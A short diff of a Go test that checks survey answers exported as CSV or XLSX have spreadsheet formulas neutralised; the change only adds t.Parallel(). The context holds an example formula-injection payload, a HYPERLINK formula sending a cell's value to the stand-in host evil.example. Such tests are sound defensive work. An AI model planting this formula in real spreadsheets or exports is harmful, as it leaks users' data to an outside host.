@@ -23,6 +23,7 @@ const formula = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
 // downloads the responses as an analyst: in the CSV the answer is text
 // with a ' in front; in the XLSX it is a string cell, not a formula.
 func TestDownloadNeutralisesFormulas(t *testing.T) {
+	t.Parallel()
 	a := newApp(t, storetest.SQLite(t))
 	answers := map[string]url.Values{
 		"about_you": {"region": {"london"}},
